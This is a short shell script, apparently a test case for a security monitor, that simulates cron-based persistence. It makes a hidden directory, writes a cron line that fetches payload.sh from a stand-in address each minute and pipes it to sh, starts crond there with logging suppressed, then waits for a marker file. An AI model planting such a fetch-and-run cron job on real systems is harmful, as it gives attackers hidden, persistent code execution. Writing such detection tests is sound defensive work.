#!/bin/sh
. /opt/case/case.sh

mkdir -p /var/tmp/.c
echo '* * * * * wget -qO- http://203.0.113.10/payload.sh | sh' >/var/tmp/.c/root
crond -b -c /var/tmp/.c -L /dev/null
rounds=0
until test -e /tmp/reached; do rounds=$((rounds + 1)); test $rounds -lt 75; sleep 1; done
took_place
